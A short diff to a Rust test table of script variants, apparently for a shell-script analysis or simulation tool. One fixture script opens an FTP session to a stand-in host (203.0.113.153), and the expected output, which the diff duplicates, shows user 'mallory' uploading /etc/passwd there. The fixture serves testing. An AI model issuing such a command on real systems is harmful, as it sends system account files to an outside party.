@@ -283,7 +283,13 @@ pub(super) const VARIANTS: &[Variant] = &[
             ),
             ("home/kim/go.sh", "#!/bin/sh\nftp 203.0.113.153\n"),
         ],
-        &["203.0.113.153:21 as 'mallory'/'pw'", "  puts /etc/passwd as p, binary", "bsd runs - (0)"],
+        &[
+            "203.0.113.153:21 as 'mallory'/'pw'",
+            "  puts /etc/passwd as p, binary",
+            "203.0.113.153:21 as 'mallory'/'pw'",
+            "  puts /etc/passwd as p, binary",
+            "bsd runs - (1)",
+        ],
     ),
     variant("V72 prose", &[("a.txt", "open the gate and get tea, bye\n")], &[]),
     variant(
